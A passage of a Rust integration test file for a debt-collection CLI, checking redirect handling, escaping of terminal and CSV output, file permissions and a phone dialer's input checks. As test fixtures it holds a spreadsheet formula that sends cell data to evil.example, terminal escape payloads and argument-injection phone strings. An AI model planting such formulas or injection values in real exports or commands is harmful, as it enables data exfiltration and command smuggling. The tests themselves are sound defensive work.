//! Issue 13: nothing leaks, nothing is forged. Redirects, hostile text, exports, files.
// A test may stop at the first surprise: unwrapping is how it says so.
#![allow(clippy::unwrap_used)]

mod common;

use axum::Router;
use axum::http::{StatusCode, header};
use axum::response::IntoResponse;
use axum::routing::any;
use deskcoll::api::{ApiError, Client, LoginAuth, TerminAuth, TerminEndpoint};
use deskcoll::domain::outbox::DeliveryState;
use deskcoll::domain::{ResultDraft, Secret};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use tokio::io::AsyncReadExt;

/// A listener that counts connections and bytes it is sent, and never answers.
async fn trap() -> (String, Arc<AtomicUsize>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let seen = Arc::new(AtomicUsize::new(0));
    let counter = seen.clone();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            counter.fetch_add(1, Ordering::SeqCst);
            let counter = counter.clone();
            tokio::spawn(async move {
                let mut buf = [0u8; 4096];
                while let Ok(n) = stream.read(&mut buf).await {
                    if n == 0 {
                        break;
                    }
                    counter.fetch_add(n, Ordering::SeqCst);
                }
            });
        }
    });
    (format!("http://{addr}"), seen)
}

/// A server that answers every request with 307 to `to` (same path).
async fn redirecting(to: String) -> String {
    let app = Router::new().fallback(any(move |uri: axum::http::Uri| {
        let to = to.clone();
        async move {
            (
                StatusCode::TEMPORARY_REDIRECT,
                [(header::LOCATION, format!("{to}{}", uri.path()))],
                "",
            )
                .into_response()
        }
    }));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    format!("http://{addr}")
}

#[tokio::test]
async fn a_redirected_login_carries_no_secret_elsewhere() {
    let (elsewhere, seen) = trap().await;
    let base = redirecting(elsewhere.clone()).await;
    let client = Client::new(
        None,
        Some(TerminEndpoint {
            url: format!("{base}/api/v1/bumn/transactions/termin"),
            auth: TerminAuth::Login(LoginAuth {
                login_url: format!("{base}/api/v2/bumn/bumn-auth/login"),
                basic: Some(common::seed_auth()),
                access_key: Secret::new("key"),
                access_secret: Secret::new("s3cret"),
            }),
        }),
        common::quick_timeouts(),
    )
    .unwrap();
    let err = client.termin_page(1, 10).await.unwrap_err();
    match &err {
        ApiError::Redirect { status, from, to } => {
            assert_eq!(*status, 307);
            assert!(from.starts_with(&base), "{from}");
            assert!(to.starts_with(&elsewhere), "{to}");
        }
        other => panic!("{other:?}"),
    }
    let shown = err.to_string();
    assert!(
        shown.contains(&base) && shown.contains(&elsewhere),
        "{shown}"
    );
    assert_eq!(deskcoll::cli::Failure::from(err).code, 1);
    tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    assert_eq!(
        seen.load(Ordering::SeqCst),
        0,
        "nothing reached the other port"
    );
}

#[tokio::test]
async fn a_redirected_result_is_uncertain_and_goes_nowhere() {
    let (elsewhere, seen) = trap().await;
    let base = redirecting(elsewhere).await;
    let client = Client::new(
        Some(common::endpoints(
            &base,
            Some(common::seed_auth()),
            deskcoll::twin::SEED_HASH_KEY,
        )),
        None,
        common::quick_timeouts(),
    )
    .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let outbox = deskcoll::store::Outbox::open(&dir.path().join("o.sqlite3")).unwrap();
    let deliverer = deskcoll::delivery::Deliverer::new(
        Arc::new(std::sync::Mutex::new(outbox)),
        client.clone(),
        deskcoll::clock::Clock::at(common::fixed_now()),
    );
    let result = ResultDraft {
        account_no: "000319280100042".into(),
        action_code: "NCT".into(),
        result_code: "NCT01".into(),
        agent_id: "A1".into(),
        ..ResultDraft::default()
    }
    .validate(common::fixed_now())
    .unwrap();
    let id = deliverer.enqueue(&result).unwrap();
    let (state, d) = deliverer.deliver(id).await.unwrap().unwrap();
    // The server had the whole result before it answered 3xx: it may be stored, so it is
    // uncertain, never re-sent on its own (issue 27).
    assert_eq!(state, DeliveryState::Uncertain);
    assert!(
        matches!(&d, deskcoll::delivery::Disposition::Uncertain { reason } if reason.contains("redirect")),
        "{d:?}"
    );
    let item = deliverer.outbox.lock().unwrap().get(id).unwrap();
    assert_eq!(item.state, DeliveryState::Uncertain);
    assert!(item.delivered_by.is_none());
    // The task list is refused alike.
    assert!(matches!(
        client.tasks().await,
        Err(ApiError::Redirect { .. })
    ));
    tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    assert_eq!(
        seen.load(Ordering::SeqCst),
        0,
        "nothing reached the other port"
    );
}

/// The binary with a private home and none of the caller's DESKCOLL_* variables.
fn deskcoll(home: &std::path::Path, args: &[&str]) -> std::process::Command {
    let mut c = std::process::Command::new(env!("CARGO_BIN_EXE_deskcoll"));
    c.args(args)
        .env("HOME", home)
        .env("XDG_CONFIG_HOME", home.join("config"))
        .env("XDG_DATA_HOME", home.join("data"))
        .stdin(std::process::Stdio::null());
    for (k, _) in std::env::vars() {
        if k.starts_with("DESKCOLL_") {
            c.env_remove(k);
        }
    }
    c.env("DESKCOLL_LANG", "en");
    c
}

async fn output(mut c: std::process::Command) -> std::process::Output {
    tokio::task::spawn_blocking(move || c.output().unwrap())
        .await
        .unwrap()
}

const HOSTILE: &str =
    "ERROR: Account No \u{1b}]0;x\u{7}\u{1b}[2J\u{202E}\u{2066}evil does not exist";

/// A server whose every word is hostile: a `90` for results, an `error` for termin.
async fn hostile_server() -> String {
    let app = Router::new()
        .route(
            "/api/DailyTask_DeskColl",
            any(|| async {
                (
                    [(header::CONTENT_TYPE, "application/json")],
                    r#"{"data":[]}"#,
                )
            }),
        )
        .route(
            "/api/CollectionInsert",
            any(|| async {
                let body = serde_json::json!({"respon_code": "90", "respon_mess": HOSTILE});
                (
                    [(header::CONTENT_TYPE, "application/json")],
                    body.to_string(),
                )
            }),
        )
        .route(
            "/api/v1/bumn/transactions/termin",
            any(|| async {
                let body = serde_json::json!({"status": "error", "message": HOSTILE});
                (
                    [(header::CONTENT_TYPE, "application/json")],
                    body.to_string(),
                )
            }),
        );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    format!("http://{addr}")
}

fn assert_clean(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    for c in ['\u{1b}', '\u{7}', '\u{202E}', '\u{2066}'] {
        assert!(!text.contains(c), "{what} holds {c:?}: {text:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_message_never_reaches_the_terminal_raw() {
    let base = hostile_server().await;
    let home = tempfile::tempdir().unwrap();
    let mut c = deskcoll(
        home.path(),
        &[
            "--now",
            "2026-11-27T10:00:00+07:00",
            "--base-url",
            &base,
            "--agent-id",
            "A1",
            "submit",
            "--account",
            "000319280100042",
            "--action",
            "NCT",
            "--result",
            "NCT01",
            "--remark",
            "x",
        ],
    );
    c.env("DESKCOLL_HASH_KEY", "k");
    let o = output(c).await;
    assert_eq!(
        o.status.code(),
        Some(3),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    assert!(String::from_utf8_lossy(&o.stderr).contains("evil does not exist"));
    assert_clean("submit's stderr", &o.stderr);
    assert_clean("submit's stdout", &o.stdout);

    // A 90 does not prove "not stored": its resend asks for a yes.
    let mut c = deskcoll(
        home.path(),
        &["--base-url", &base, "outbox", "resolve", "1", "--resend"],
    );
    c.env("DESKCOLL_HASH_KEY", "k");
    let o = output(c).await;
    assert_eq!(o.status.code(), Some(2));
    let said = String::from_utf8_lossy(&o.stderr);
    assert!(
        said.contains("may already be on the server") && said.contains("--yes"),
        "{said}"
    );
    assert_eq!(said.lines().count(), 1, "{said}");

    // The rejected result, listed and resent: still clean.
    for args in [
        &["outbox", "list"][..],
        &["outbox", "list", "--format", "csv"],
        &["outbox", "resolve", "1", "--resend", "--yes"],
    ] {
        let mut c = deskcoll(home.path(), &[&["--base-url", &base][..], args].concat());
        c.env("DESKCOLL_HASH_KEY", "k")
            .env("DESKCOLL_AGENT_ID", "A1");
        let o = output(c).await;
        if args.contains(&"--yes") {
            let said = String::from_utf8_lossy(&o.stderr);
            assert!(said.contains("may already be on the server"), "{said}");
            assert_eq!(
                o.status.code(),
                Some(3),
                "refused again: the code of a refusal"
            );
        }
        assert_clean(&format!("{args:?} stdout"), &o.stdout);
        assert_clean(&format!("{args:?} stderr"), &o.stderr);
    }

    let o = output(deskcoll(
        home.path(),
        &[
            "--termin-url",
            &format!("{base}/api/v1/bumn/transactions/termin"),
            "termin",
        ],
    ))
    .await;
    assert_ne!(o.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&o.stderr).contains("evil"), "{o:?}");
    assert_clean("termin's stderr", &o.stderr);
}

const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;

/// A task list and a termin page whose names are formulas.
async fn formula_server() -> String {
    let app = Router::new()
        .route(
            "/api/DailyTask_DeskColl",
            any(|| async {
                let body = serde_json::json!({"data": [{
                    "contract_no": "000318270200055", "name": FORMULA, "branch_name": "-2+3",
                    "total_amount": "-1500", "overdue": "5", "phone1": "0812"
                }]});
                (
                    [(header::CONTENT_TYPE, "application/json")],
                    body.to_string(),
                )
            }),
        )
        .route(
            "/api/v1/bumn/transactions/termin",
            any(|| async {
                let body = serde_json::json!({
                    "status": "success", "message": "ok",
                    "data": {"transaction-termin": [{
                        "general": {"purchase_order_number": "PO-1", "buyer_name": "@SUM(A1)"},
                        "vendor": {"name": FORMULA},
                        "payment": {"bill_amount": 257005026}
                    }]},
                    "meta": {"page": 1, "total_page": 1, "total_data": 1}
                });
                (
                    [(header::CONTENT_TYPE, "application/json")],
                    body.to_string(),
                )
            }),
        );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    format!("http://{addr}")
}

/// The records of a CSV as a spreadsheet would split them (`;` and a BOM for `excel`).
fn read_csv(bytes: &[u8], excel: bool) -> Vec<csv::StringRecord> {
    let bytes = if excel {
        bytes.strip_prefix(b"\xEF\xBB\xBF").expect("a UTF-8 BOM")
    } else {
        assert!(!bytes.starts_with(b"\xEF\xBB\xBF"));
        bytes
    };
    csv::ReaderBuilder::new()
        .delimiter(if excel { b';' } else { b',' })
        .from_reader(bytes)
        .records()
        .map(Result::unwrap)
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn csv_exports_never_carry_a_formula() {
    let base = formula_server().await;
    let home = tempfile::tempdir().unwrap();
    let termin_url = format!("{base}/api/v1/bumn/transactions/termin");
    for excel in [false, true] {
        let mut args = vec!["--base-url", &base, "tasks", "--format", "csv"];
        if excel {
            args.push("--excel");
        }
        let o = output(deskcoll(home.path(), &args)).await;
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        let rows = read_csv(&o.stdout, excel);
        assert_eq!(rows[0].get(1), Some(&*format!("'{FORMULA}")));
        assert_eq!(rows[0].get(3), Some("-1500"), "money stays a number");
        assert_eq!(rows[0].get(10), Some("'-2+3"));

        let mut args = vec!["--termin-url", &termin_url, "termin", "--format", "csv"];
        if excel {
            args.push("--excel");
        }
        let o = output(deskcoll(home.path(), &args)).await;
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        let rows = read_csv(&o.stdout, excel);
        assert!(rows[0].get(5).unwrap().starts_with("'=HYPERLINK("));
        assert_eq!(rows[0].get(4), Some("'@SUM(A1)"));
        assert_eq!(rows[0].get(12), Some("257005026"));
    }
    let o = output(deskcoll(home.path(), &["today", "--excel"])).await;
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(read_csv(&o.stdout, true)[0].get(0), Some("calls"));
    let o = output(deskcoll(
        home.path(),
        &["tasks", "--excel", "--format", "json"],
    ))
    .await;
    assert_eq!(o.status.code(), Some(2));
}

#[tokio::test]
async fn the_workstations_export_is_escaped_and_private() {
    use std::os::unix::fs::PermissionsExt;
    let t = common::twin().await;
    let client = common::client_for(&t);
    let mut rows = client
        .termin_page(1, 3)
        .await
        .unwrap()
        .data
        .unwrap()
        .transactions;
    rows[0].vendor.name = FORMULA.into();
    let dir = tempfile::tempdir().unwrap();
    let outbox = deskcoll::store::Outbox::open(&dir.path().join("o.sqlite3")).unwrap();
    let rt = deskcoll::tui::Runtime::quiet(deskcoll::delivery::Deliverer::new(
        Arc::new(std::sync::Mutex::new(outbox)),
        client,
        deskcoll::clock::Clock::at(common::fixed_now()),
    ));
    let path = dir.path().join("export.csv");
    let (tx, _rx) = tokio::sync::mpsc::unbounded_channel();
    let actions = deskcoll::tui::execute(
        deskcoll::tui::message::Effect::ExportTermin {
            path: path.display().to_string(),
            headers: deskcoll::domain::termin_view::CSV_HEADERS
                .iter()
                .map(|h| h.to_string())
                .collect(),
            rows: rows
                .iter()
                .map(deskcoll::domain::termin_view::csv_row)
                .collect(),
        },
        &rt,
        &tx,
    )
    .await;
    assert!(
        matches!(&actions[0], deskcoll::tui::message::Action::Exported(Ok(e)) if e.rows == 3),
        "{actions:?}"
    );
    let read = read_csv(&std::fs::read(&path).unwrap(), false);
    assert_eq!(read[0].get(5), Some(&*format!("'{FORMULA}")));
    let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600);

    let excel = dir.path().join("excel.csv");
    deskcoll::files::export_termin_csv(
        &excel,
        &rows,
        deskcoll::domain::text::CsvStyle { excel: true },
    )
    .unwrap();
    let read = read_csv(&std::fs::read(&excel).unwrap(), true);
    assert_eq!(read[0].get(5), Some(&*format!("'{FORMULA}")));
}

/// A server whose list holds `accounts` and whose result route answers 502 (uncertain).
async fn uncertain_server(accounts: &'static [&'static str]) -> String {
    let app = Router::new()
        .route(
            "/api/DailyTask_DeskColl",
            any(move || async move {
                let data: Vec<_> = accounts
                    .iter()
                    .map(|a| serde_json::json!({"contract_no": a}))
                    .collect();
                let body = serde_json::json!({ "data": data });
                (
                    [(header::CONTENT_TYPE, "application/json")],
                    body.to_string(),
                )
            }),
        )
        .route(
            "/api/CollectionInsert",
            any(|| async {
                (
                    StatusCode::BAD_GATEWAY,
                    "<html><title>Bad Gateway</title></html>",
                )
            }),
        );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    format!("http://{addr}")
}

#[tokio::test(flavor = "multi_thread")]
async fn leaving_the_list_is_a_hint_beside_an_uncertain_result_never_proof() {
    const NOW: &str = "2026-11-27T10:00:00+07:00";
    for (accounts, hinted) in [
        (&["000222222222222"][..], true),
        (&["000319280100042", "000222222222222"][..], false),
    ] {
        let base = uncertain_server(accounts).await;
        let home = tempfile::tempdir().unwrap();
        let cmd = |args: &[&str]| {
            let mut c = deskcoll(
                home.path(),
                &[
                    &["--now", NOW, "--base-url", &base, "--agent-id", "A1"][..],
                    args,
                ]
                .concat(),
            );
            c.env("DESKCOLL_HASH_KEY", "k");
            c
        };
        let o = output(cmd(&[
            "submit",
            "--account",
            "000319280100042",
            "--action",
            "NCT",
            "--result",
            "NCT01",
            "--period",
            "1",
            "--remark",
            "x",
        ]))
        .await;
        assert_eq!(
            o.status.code(),
            Some(4),
            "{}",
            String::from_utf8_lossy(&o.stderr)
        );
        let o = output(cmd(&["outbox", "list"])).await;
        let table = String::from_utf8_lossy(&o.stdout);
        assert!(table.contains("uncertain"), "{table}");
        assert_eq!(
            table.contains("result 1: its account has left today's list: it may have arrived"),
            hinted,
            "{table}"
        );
        let o = output(cmd(&["outbox", "list", "--format", "json"])).await;
        let items: Vec<serde_json::Value> = serde_json::from_slice(&o.stdout).unwrap();
        assert_eq!(items[0]["state"], "uncertain", "the hint settles nothing");
        assert_eq!(items[0].get("hint").is_some(), hinted);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn files_with_secrets_and_names_are_the_owners_only() {
    use std::os::unix::fs::PermissionsExt;
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let home = tempfile::tempdir().unwrap();
    let config = home.path().join("deskcoll.toml");
    std::fs::write(&config, "agent_id = \"A1\"\n").unwrap();
    std::fs::set_permissions(&config, std::fs::Permissions::from_mode(0o644)).unwrap();
    let config_arg = config.display().to_string();

    // No secret in it: nothing to warn about (issue 27).
    let o = output(deskcoll(
        home.path(),
        &["--config", &config_arg, "config", "path"],
    ))
    .await;
    assert!(o.status.success());
    assert!(
        o.stderr.is_empty(),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );

    // Any command warns, in one line, about a config file others can read that holds a
    // secret: a key, or a URL's user-info or query value.
    for text in [
        "agent_id = \"A1\"\n[collection]\nhash_key = \"k3y\"\n",
        "[collection]\nbase_url = \"https://svc:pw@h\"\n",
        "[termin]\nurl = \"https://t/x?key=k\"\n",
    ] {
        std::fs::write(&config, text).unwrap();
        let o = output(deskcoll(
            home.path(),
            &["--config", &config_arg, "config", "path"],
        ))
        .await;
        assert!(o.status.success());
        let said = String::from_utf8_lossy(&o.stderr);
        assert!(
            said.contains("can be read by other users"),
            "{text}: {said}"
        );
        assert_eq!(said.lines().count(), 1, "{said}");
    }

    // init --force over it leaves it 0600, and the warning is gone.
    let o = output(deskcoll(
        home.path(),
        &["--config", &config_arg, "config", "init", "--force"],
    ))
    .await;
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(mode(&config), 0o600);
    let o = output(deskcoll(
        home.path(),
        &["--config", &config_arg, "config", "path"],
    ))
    .await;
    assert!(
        o.stderr.is_empty(),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let fresh = home.path().join("new/dir/config.toml");
    let o = output(deskcoll(
        home.path(),
        &["--config", &fresh.display().to_string(), "config", "init"],
    ))
    .await;
    assert!(o.status.success());
    assert_eq!(mode(&fresh), 0o600);

    // The data folder and the outbox in it.
    let o = output(deskcoll(
        home.path(),
        &["--now", "2026-11-27T10:00:00+07:00", "today"],
    ))
    .await;
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let data = home.path().join("data/deskcoll");
    assert_eq!(mode(&data), 0o700);
    assert_eq!(mode(&data.join("outbox-demo.sqlite3")), 0o600);
}

#[tokio::test]
async fn the_dialer_gets_numbers_only() {
    use deskcoll::tui::message::{Action, DialError, Dialed, Effect};
    let t = common::twin().await;
    let dir = tempfile::tempdir().unwrap();
    let outbox = deskcoll::store::Outbox::open(&dir.path().join("o.sqlite3")).unwrap();
    let mut rt = deskcoll::tui::Runtime::quiet(deskcoll::delivery::Deliverer::new(
        Arc::new(std::sync::Mutex::new(outbox)),
        common::client_for(&t),
        deskcoll::clock::Clock::at(common::fixed_now()),
    ));
    // A dialer that writes what it was given.
    let got = dir.path().join("dialled");
    rt.dial_command = Some(format!(
        "sh -c 'printf %s \"$0\" > {}' {{phone}}",
        got.display()
    ));
    let (tx, _rx) = tokio::sync::mpsc::unbounded_channel();
    for (phone, dialled) in [
        ("--version", None),
        ("x@evil.example;transport=tcp", None),
        ("0", None),
        ("", None),
        ("0812-3456-7890", Some("081234567890")),
        ("(021) 555 1234", Some("0215551234")),
        ("+6281234567890", Some("+6281234567890")),
    ] {
        let _ = std::fs::remove_file(&got);
        let effect = Effect::Dial {
            account_no: "000319280100042".into(),
            phone: phone.into(),
            override_reason: None,
        };
        let actions = deskcoll::tui::execute(effect, &rt, &tx).await;
        let Action::Dialed { outcome, .. } = &actions[0] else {
            panic!("{actions:?}")
        };
        match dialled {
            None => assert!(
                matches!(outcome, Err(DialError::NotDialable { .. })),
                "{phone:?}: {outcome:?}"
            ),
            Some(number) => {
                assert!(
                    matches!(outcome, Ok(Dialed::Launched { .. })),
                    "{outcome:?}"
                );
                let mut waited = 0;
                while !got.exists() && waited < 50 {
                    tokio::time::sleep(std::time::Duration::from_millis(20)).await;
                    waited += 1;
                }
                tokio::time::sleep(std::time::Duration::from_millis(20)).await;
                assert_eq!(std::fs::read_to_string(&got).unwrap(), number);
            }
        }
    }
}

#[tokio::test]
async fn a_hostile_task_list_is_refused_not_fatal() {
    // Within the cap: a body of nothing but keys is a wire error (and a modest pre-size).
    let mut body = String::from("{\"data\":[");
    body.push_str(&"\"contract_no\",".repeat(60_000));
    body.push_str("]}");
    let body: &'static str = Box::leak(body.into_boxed_str());
    let app = Router::new().fallback(any(move || async move {
        ([(header::CONTENT_TYPE, "application/json")], body)
    }));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    let base = format!("http://{addr}");
    let client = |max_body_bytes| {
        Client::new(
            Some(common::endpoints(&base, None, "k")),
            None,
            deskcoll::api::ClientOptions {
                max_body_bytes,
                ..common::quick_timeouts()
            },
        )
        .unwrap()
    };
    assert!(matches!(
        client(1 << 20).tasks().await,
        Err(ApiError::Wire(_))
    ));
    // Over the cap: a clear error naming the setting.
    let err = client(512 * 1024).tasks().await.unwrap_err();
    assert!(matches!(err, ApiError::TooLarge { .. }), "{err:?}");
    assert!(err.to_string().contains("http.max_body_mb"), "{err}");
}

async fn status_of(url: &str, auth: Option<(&str, &str)>) -> u16 {
    let mut req = reqwest::Client::new().get(url);
    if let Some((u, p)) = auth {
        req = req.basic_auth(u, Some(p));
    }
    req.send().await.unwrap().status().as_u16()
}

/// This machine's address on its network, if it has one besides loopback.
fn outward_ip() -> Option<std::net::IpAddr> {
    let s = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
    s.connect("10.255.255.255:9").ok()?;
    let ip = s.local_addr().ok()?.ip();
    (!ip.is_loopback() && !ip.is_unspecified()).then_some(ip)
}

#[tokio::test]
async fn the_twins_inspection_needs_its_credentials_and_this_machine() {
    use deskcoll::twin::{SEED_PASSWORD, SEED_USER};
    let seed = Some((SEED_USER, SEED_PASSWORD));
    let t = common::twin_with(deskcoll::twin::TwinOptions {
        no_auth: true,
        ..common::options()
    })
    .await;
    for route in ["collections", "stats"] {
        let url = format!("{}/__twin/{route}", t.base_url());
        assert_eq!(
            status_of(&url, None).await,
            401,
            "{route}, even under --no-auth"
        );
        assert_eq!(status_of(&url, Some((SEED_USER, "wrong"))).await, 401);
        assert_eq!(status_of(&url, seed).await, 200);
    }

    let Some(ip) = outward_ip() else {
        eprintln!("no address besides loopback: the remote half is not tried");
        return;
    };
    for expose in [false, true] {
        let t = common::twin_with(deskcoll::twin::TwinOptions {
            addr: "0.0.0.0:0".parse().unwrap(),
            expose_inspect: expose,
            ..common::options()
        })
        .await;
        let url = format!("http://{ip}:{}/__twin/collections", t.addr.port());
        assert_eq!(status_of(&url, seed).await, if expose { 200 } else { 403 });
        assert_eq!(status_of(&url, None).await, if expose { 401 } else { 403 });
        let local = format!("http://127.0.0.1:{}/__twin/collections", t.addr.port());
        assert_eq!(status_of(&local, seed).await, 200);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn serve_and_sign_take_their_secrets_from_the_environment_and_the_file() {
    let home = tempfile::tempdir().unwrap();
    let config = home.path().join("c.toml");
    std::fs::write(
        &config,
        "[collection]\nhash_key = \"8de3ef10fec04f05adb8631f9186a437\"\n[twin]\nhash_key = \"file-key\"\naccess_secret = \"file-secret\"\n",
    )
    .unwrap();
    let config_arg = config.display().to_string();

    // sign: from the config file; without any key and no terminal, a clear refusal.
    let o = output(deskcoll(
        home.path(),
        &["--config", &config_arg, "sign", "000319280100042"],
    ))
    .await;
    assert_eq!(
        String::from_utf8_lossy(&o.stdout).trim(),
        "87072d55e9a05731bdae67c13fe6d617ce60da95260165ec58bbc07377b4d381"
    );
    // In demo mode the twin's key signs (issue 12); with a real server and no key: refused.
    let server = home.path().join("server.toml");
    std::fs::write(
        &server,
        "[collection]\nbase_url = \"https://collection.example.invalid\"\n",
    )
    .unwrap();
    let server_arg = server.display().to_string();
    let o = output(deskcoll(
        home.path(),
        &["--config", &server_arg, "sign", "000319280100042"],
    ))
    .await;
    assert_eq!(
        o.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    assert!(String::from_utf8_lossy(&o.stderr).contains("DESKCOLL_HASH_KEY"));

    // serve: the password from the environment, the rest from [twin].
    let mut c = deskcoll(
        home.path(),
        &["--config", &config_arg, "serve", "--addr", "127.0.0.1:0"],
    );
    c.env("DESKCOLL_TWIN_PASSWORD", "env-password");
    let (_serve, first) = common::spawn_for_first_line(&mut c, std::time::Duration::from_secs(20));
    let base = common::served_url(&first);
    let url = format!("{base}/__twin/stats");
    let seed = (deskcoll::twin::SEED_USER, deskcoll::twin::SEED_PASSWORD);
    assert_eq!(status_of(&url, Some(seed)).await, 401);
    assert_eq!(status_of(&url, Some((seed.0, "env-password"))).await, 200);
    let client = Client::new(
        Some(common::endpoints(
            &base,
            Some(deskcoll::api::BasicAuth {
                user: seed.0.into(),
                password: Secret::new("env-password"),
            }),
            "file-key",
        )),
        None,
        common::quick_timeouts(),
    )
    .unwrap();
    let task = client.tasks().await.unwrap().remove(0);
    let result = ResultDraft {
        account_no: task.contract_no.to_string(),
        action_code: "NCT".into(),
        result_code: "NCT01".into(),
        agent_id: "A1".into(),
        ..ResultDraft::default()
    }
    .validate(common::fixed_now())
    .unwrap();
    assert!(
        client.submit(&result).await.is_ok(),
        "signed with [twin] hash_key"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn credentials_over_plain_http_are_warned_about() {
    let home = tempfile::tempdir().unwrap();
    let show = |base: &str| {
        let mut c = deskcoll(home.path(), &["--base-url", base, "config", "show"]);
        c.env("DESKCOLL_USER", "svc").env("DESKCOLL_PASSWORD", "pw");
        c
    };
    let o = output(show("http://collection.example:9")).await;
    assert!(o.status.success());
    let said = String::from_utf8_lossy(&o.stderr);
    assert!(
        said.contains("plain http:// to collection.example:9"),
        "{said}"
    );
    assert_eq!(said.lines().count(), 1, "{said}");
    for quiet in ["https://collection.example", "http://127.0.0.1:9"] {
        let o = output(show(quiet)).await;
        assert!(
            o.stderr.is_empty(),
            "{quiet}: {}",
            String::from_utf8_lossy(&o.stderr)
        );
    }
}

// Issue 27: hostile servers on loopback, each small and each after one weakness.

/// A server on loopback from a router.
async fn serve_router(app: Router) -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    format!("http://{addr}")
}

fn json_reply(body: String) -> axum::response::Response {
    ([(header::CONTENT_TYPE, "application/json")], body).into_response()
}

/// A config file in a private folder: `[http]` and whatever else `text` says.
fn config_file(home: &std::path::Path, text: &str) -> String {
    let dir = home.join("conf");
    std::fs::create_dir_all(&dir).unwrap();
    deskcoll::files::set_mode(&dir, 0o700).unwrap();
    let path = dir.join("config.toml");
    std::fs::write(&path, text).unwrap();
    deskcoll::files::set_mode(&path, 0o600).unwrap();
    path.to_str().unwrap().to_string()
}

fn said(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// Stores every result posted, then answers 303 See Other (post/redirect/get).
#[tokio::test(flavor = "multi_thread")]
async fn a_303_after_storing_makes_no_duplicate() {
    let posts = Arc::new(AtomicUsize::new(0));
    let counter = posts.clone();
    let app = Router::new()
        .route(
            "/api/DailyTask_DeskColl",
            any(|| async { json_reply(r#"{"data":[]}"#.into()) }),
        )
        .route(
            "/api/CollectionInsert",
            any(move |method: axum::http::Method| {
                let counter = counter.clone();
                async move {
                    if method == axum::http::Method::POST {
                        counter.fetch_add(1, Ordering::SeqCst);
                    }
                    (
                        StatusCode::SEE_OTHER,
                        [(header::LOCATION, "/api/CollectionStored/1")],
                        "",
                    )
                        .into_response()
                }
            }),
        );
    let base = serve_router(app).await;
    let home = tempfile::tempdir().unwrap();
    let mut c = deskcoll(
        home.path(),
        &[
            "--now",
            "2026-11-27T10:00:00+07:00",
            "--base-url",
            &base,
            "--agent-id",
            "A1",
            "submit",
            "--account",
            "000319280100042",
            "--action",
            "NCT",
            "--result",
            "NCT01",
            "--remark",
            "x",
        ],
    );
    c.env("DESKCOLL_HASH_KEY", "k");
    let o = output(c).await;
    assert_eq!(
        o.status.code(),
        Some(4),
        "sent but not confirmed: {}",
        said(&o.stderr)
    );
    assert_eq!(posts.load(Ordering::SeqCst), 1, "sent once, never again");
    // Flushing the outbox does not send it again: it may be stored.
    for args in [&["outbox", "flush"][..], &["outbox", "flush"]] {
        let mut c = deskcoll(home.path(), &[&["--base-url", &base][..], args].concat());
        c.env("DESKCOLL_HASH_KEY", "k");
        let _ = output(c).await;
    }
    assert_eq!(posts.load(Ordering::SeqCst), 1, "no duplicate from a flush");
    let o = output(deskcoll(
        home.path(),
        &["--base-url", &base, "outbox", "list", "--format", "json"],
    ))
    .await;
    let listed: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(listed[0]["state"], "uncertain", "{listed}");
}

/// Answers headers at once, then one byte every 3 s: under the between-reads timeout, for
/// ever.
async fn drip_server() -> String {
    use tokio::io::AsyncWriteExt;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            tokio::spawn(async move {
                let mut buf = [0u8; 8192];
                let _ = stream.read(&mut buf).await;
                let head = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{\"data\":[";
                if stream.write_all(head.as_bytes()).await.is_err() {
                    return;
                }
                loop {
                    tokio::time::sleep(std::time::Duration::from_secs(3)).await;
                    if stream.write_all(b" ").await.is_err() {
